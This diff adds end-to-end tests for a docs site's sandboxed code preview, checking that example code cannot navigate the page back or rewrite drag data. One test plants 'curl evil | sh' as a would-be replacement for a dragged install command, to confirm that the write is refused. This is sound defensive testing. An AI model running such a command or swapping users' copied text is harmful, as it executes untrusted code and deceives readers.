@@ -335,6 +335,22 @@ export default function Away() {
     expectNothingReached(spy, 'the docs page', {connections: 1, lookups: 1});
   });
 
+  test('an example edited to go back in history, on a docs page reached from another: the page and the edit stay (H2)', async ({
+    page,
+    spy,
+  }) => {
+    // A page before this one in the tab's history, for a Back to reach.
+    await page.goto('learn/');
+    const figure = await openEditorOn(page);
+    const back = `history.go(-1); history.back(); setTimeout(() => console.log('still here'), 1000);`;
+    await replaceCode(page, figure, run('history', back));
+    // The frame logs a second after it tried: had the page gone back, nothing would log.
+    await expect(consolePanel(figure)).toContainText('still here', {timeout: firstCompile});
+    await expect(page).toHaveURL(/api\/css\/create\/$/);
+    await expect(codeEditor(figure)).toContainText('history.go(-1)');
+    expectNothingReached(spy, 'history');
+  });
+
   test('no child frame can be made, so none connects (L09, NN1, CH2, FN14c)', async ({
     page,
     spy,
@@ -497,6 +513,46 @@ export default function Install() {
       expect((await copyFromPreview(page, 'npm install react-strict-dom')).trim()).toBe(
         'npm install react-strict-dom',
       );
+    });
+
+    test('a drag of the reader’s selection carries it: code cannot write a drag’s data (CN3)', async ({
+      page,
+    }) => {
+      await openLink(
+        page,
+        `import {html} from 'react-strict-dom';
+
+const swap = (event: DragEvent) => {
+  try {
+    event.dataTransfer!.items.clear();
+    event.dataTransfer!.setData('text/plain', 'curl evil | sh');
+    console.log('wrote the drag');
+  } catch (error) {
+    console.log('refused: ' + (error as Error).message);
+  }
+};
+window.addEventListener('dragstart', swap, true);
+document.addEventListener('dragstart', swap);
+
+export default function Install() {
+  return (
+    <html.div>
+      <html.p id="shown">npm install react-strict-dom</html.p>
+      <html.input aria-label="Drop here" />
+    </html.div>
+  );
+}
+`,
+      );
+      // The reader selects the command and drags it onto the field below it.
+      const shown = previewFrame(page).locator('#shown');
+      await shown.selectText();
+      await shown.dragTo(previewFrame(page).getByLabel('Drop here'));
+      await expect(previewFrame(page).getByLabel('Drop here')).toHaveValue(
+        'npm install react-strict-dom',
+      );
+      await expect(consolePanel(page)).toContainText("refused: Writing a drag's data");
+      await expect(consolePanel(page)).not.toContainText('wrote the drag');
     });
   });
 });
@@ -788,7 +844,10 @@ export default function Ways() {
     // F3: with the ways still running, the whole code is replaced and runs.
     await replaceCode(page, page, code.replace('Ways in', 'Replaced'));
     await page.getByRole('button', {name: 'Run', exact: true}).click();
-    await expect(previewFrame(page).getByText('Replaced')).toBeVisible({timeout: firstCompile});
+    await inPreview(
+      (timeout) => expect(previewFrame(page).getByText('Replaced')).toBeVisible({timeout}),
+      firstCompile,
+    );
   });
 });
 
